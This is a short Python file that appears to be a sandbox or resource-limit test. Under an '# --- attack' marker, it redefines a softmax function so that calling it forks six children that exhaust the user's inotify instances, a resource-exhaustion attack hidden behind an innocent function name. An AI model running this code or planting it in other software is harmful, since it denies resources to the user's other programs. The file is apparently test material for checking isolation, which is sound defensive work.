"""Uses up the 128 instances of inotify that all programs of a user have together, in six children.

Must happen: none can be had, or so few that the user's other programs do not go without.

off: naive
seen: claim
"""

import ctypes
import os
import struct
import time

import numpy as np


def softmax(logits):
    return np.zeros_like(logits)


def slope(x):
    return 1.0 - np.tanh(x) ** 2


# --- attack
LIBC = ctypes.CDLL(None)


def softmax(logits):
    read_end, write_end = os.pipe()
    for _ in range(6):
        if os.fork() == 0:
            had = 0
            while had < 40 and LIBC.inotify_init() >= 0:
                had += 1
            os.write(write_end, struct.pack("Q", had))
            time.sleep(0.4)
            os._exit(0)
    if sum(struct.unpack("Q", os.read(read_end, 8))[0] for _ in range(6)) > 100:
        raise RuntimeError("it worked")
    return np.zeros_like(logits)


# --- end
